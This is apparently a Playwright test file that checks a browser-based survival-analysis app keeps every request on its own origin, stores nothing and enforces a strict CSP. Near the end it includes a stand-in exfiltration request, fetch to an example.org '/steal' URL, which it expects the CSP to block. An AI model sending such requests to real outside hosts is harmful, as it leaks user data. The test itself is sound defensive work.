// Privacy (issue 8): during a full session — open the page, upload a file, analyse,
// change a setting, export every format — every request (page and worker, recorded by
// Playwright and by the Chrome DevTools Protocol) stays on the page's origin, nothing is
// written to localStorage, sessionStorage, IndexedDB, cookies or Cache Storage, and no
// service worker is registered. The CSP header and <meta> forbid other origins.
// Every test runs twice: against scripts/serve.py and against Debian's nginx serving the
// app under /survlens/ with the committed docs/deploy/nginx.conf (tests/browser/nginx.mjs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, startServer, launch, probedPage, waitForResult, confirmColumns } from './helpers.mjs';
import { startNginx } from './nginx.mjs';

const servers = {};
let browser, close;
before(async () => {
  servers.python = await startServer();
  servers.nginx = await startNginx();
  ({ browser, close } = await launch());
});
after(async () => {
  await close?.();
  for (const s of Object.values(servers)) s.stop();
});

const PATIENTS = 'patient_id,months,death,arm,age\n' + Array.from({ length: 80 }, (_, i) =>
  `MRN-SECRET-${1000 + i},${(1 + ((i * 29) % 97) / 3).toFixed(2)},${i % 3 ? 1 : 0},${i % 2 ? 'New' : 'Standard'},${50 + (i % 25)}`).join('\n') + '\n';

/** Records storage writes and service-worker registrations in every page context. */
function recordWrites() {
  window.__writes = [];
  const note = (what) => window.__writes.push(what);
  const wrap = (obj, name, what) => {
    const orig = obj?.[name];
    if (typeof orig !== 'function') return;
    obj[name] = function (...args) { note(`${what}(${String(args[0]).slice(0, 40)})`); return orig.apply(this, args); };
  };
  wrap(Storage.prototype, 'setItem', 'Storage.setItem');
  wrap(IDBFactory.prototype, 'open', 'indexedDB.open');
  wrap(CacheStorage.prototype, 'open', 'caches.open');
  if (navigator.serviceWorker) wrap(ServiceWorkerContainer.prototype, 'register', 'serviceWorker.register');
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  Object.defineProperty(Document.prototype, 'cookie', {
    get() { return cookie.get.call(this); },
    set(v) { note(`document.cookie=${String(v).slice(0, 40)}`); cookie.set.call(this, v); },
  });
}

async function settled(page) {
  await page.waitForTimeout(400);
  await page.waitForFunction(() => !document.body.classList.contains('busy'), null, { timeout: 30000 });
}

for (const name of ['python', 'nginx']) {
test(`${name}: a full session sends nothing off the origin and stores nothing`, async () => {
  const server = servers[name];
  const { page, context, log } = await probedPage(browser);
  // The DevTools Protocol sees the worker's requests too (auto-attached targets).
  const cdp = await context.newCDPSession(page);
  const cdpRequests = [];
  cdp.on('Network.requestWillBeSent', (e) => cdpRequests.push(e.request.url));
  await cdp.send('Network.enable');
  const workers = [];
  page.on('worker', (w) => workers.push(w.url()));
  await page.addInitScript(recordWrites);

  await page.goto(server.url);
  await waitForResult(page);
  await page.setInputFiles('#file', { name: 'patients.csv', mimeType: 'text/csv', buffer: Buffer.from(PATIENTS) });
  await settled(page);
  await page.selectOption('#time-column', 'months');
  await page.selectOption('#event-column', 'death');
  await page.selectOption('#group-column', 'arm');
  await confirmColumns(page);
  await settled(page);
  assert.equal(await page.isHidden('#form-error'), true);
  await page.click('#analysis-options summary');
  await page.selectOption('#conf-type', 'log-log');
  await settled(page);
  const downloads = [];
  const exports = ['#export-svg', '#export-png', '#export-json',
    ...(await page.$$eval('[data-export]', (bs) => bs.filter((b) => b.offsetParent !== null).map((b) => `[data-export="${b.dataset.export}"]`)))];
  for (const selector of exports) {
    const [d] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
    downloads.push(d.suggestedFilename());
  }
  assert.ok(downloads.length >= 5, JSON.stringify(downloads));
  await page.waitForTimeout(300);

  // Requests: the worker's module and wasm were seen (so worker traffic is recorded),
  // and every request stayed on the origin (data: and blob: URLs are in-page).
  assert.ok(workers.length >= 1, 'the analysis worker ran');
  const all = [...log.requests, ...cdpRequests];
  assert.ok(all.some((u) => u.endsWith('/worker.js')), 'worker script request recorded');
  assert.ok(all.some((u) => u.endsWith('.wasm')), 'the worker\'s wasm request recorded');
  const offOrigin = all.filter((u) => !u.startsWith(server.origin + '/') && !/^(data|blob):/.test(u));
  assert.deepEqual(offOrigin, []);
  assert.ok(!all.some((u) => u.includes('MRN-SECRET')), 'no patient data in any URL');
  const timed = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
  assert.ok(timed.every((u) => u.startsWith(server.origin + '/') || /^(data|blob):/.test(u)), JSON.stringify(timed));

  // Storage: no write was attempted, and nothing is there.
  assert.deepEqual(await page.evaluate(() => window.__writes), []);
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookie: document.cookie,
    idb: (await indexedDB.databases()).map((d) => d.name),
    caches: await caches.keys(),
    sw: (await navigator.serviceWorker?.getRegistrations?.() ?? []).length,
  }));
  assert.deepEqual(stored, { local: 0, session: 0, cookie: '', idb: [], caches: [], sw: 0 });
  const state = await context.storageState();
  assert.deepEqual(state.cookies, []);
  assert.ok(state.origins.every((o) => o.localStorage.length === 0), JSON.stringify(state.origins));
  const usage = await cdp.send('Storage.getUsageAndQuota', { origin: server.origin });
  const persisted = usage.usageBreakdown.filter((b) => b.usage > 0 && b.storageType !== 'file_systems');
  assert.deepEqual(persisted, []);
  assert.deepEqual(log.csp, []);
  await context.close();
});

test(`${name}: the CSP (header and meta) allows only the page's own origin`, async () => {
  const server = servers[name];
  const res = await fetch(server.url);
  const header = res.headers.get('content-security-policy');
  const meta = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(readFileSync(join(ROOT, 'www/index.html'), 'utf8'))?.[1];
  const parse = (csp) => Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
  for (const csp of [header, meta]) {
    assert.ok(csp, 'CSP present');
    const directives = parse(csp);
    assert.deepEqual(directives['default-src'], ["'self'"]);
    assert.deepEqual(directives['connect-src'], ["'self'"]);
    assert.deepEqual(directives['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
    assert.deepEqual(directives['worker-src'], ["'self'"]);
    assert.deepEqual(directives['object-src'], ["'none'"]);
    assert.deepEqual(directives['base-uri'], ["'none'"]);
    assert.deepEqual(directives['form-action'], ["'none'"]);
    for (const sources of Object.values(directives)) {
      for (const s of sources) assert.ok(["'self'", "'wasm-unsafe-eval'", 'data:', 'blob:', "'none'"].includes(s), `source ${s} in ${csp}`);
    }
  }
  // The header is the <meta> policy plus what a <meta> cannot carry (frame-ancestors).
  const { 'frame-ancestors': ancestors, ...rest } = parse(header);
  assert.deepEqual(ancestors, ["'self'"]);
  assert.deepEqual(rest, parse(meta));
  // The other headers of docs/deploy.md, the same from both servers.
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(res.headers.get('referrer-policy'), 'no-referrer');
  assert.equal(res.headers.get('cross-origin-opener-policy'), 'same-origin');
  assert.match(res.headers.get('permissions-policy') ?? '', /camera=\(\)/);
  for (const [file, type] of [['main.js', 'text/javascript'], ['worker.js', 'text/javascript'], ['pkg/survlens_bg.wasm', 'application/wasm'], ['style.css', 'text/css']]) {
    assert.equal((await fetch(server.url + file)).headers.get('content-type')?.split(';')[0], type, file);
  }
  // The CSP blocks a request to another origin even if a script tried one.
  const { page, context } = await probedPage(browser);
  await page.goto(server.url);
  await waitForResult(page);
  const blocked = await page.evaluate(() => fetch('http://example.org/steal?x=1').then(() => 'sent', () => 'blocked'));
  assert.equal(blocked, 'blocked');
  await context.close();
});
}
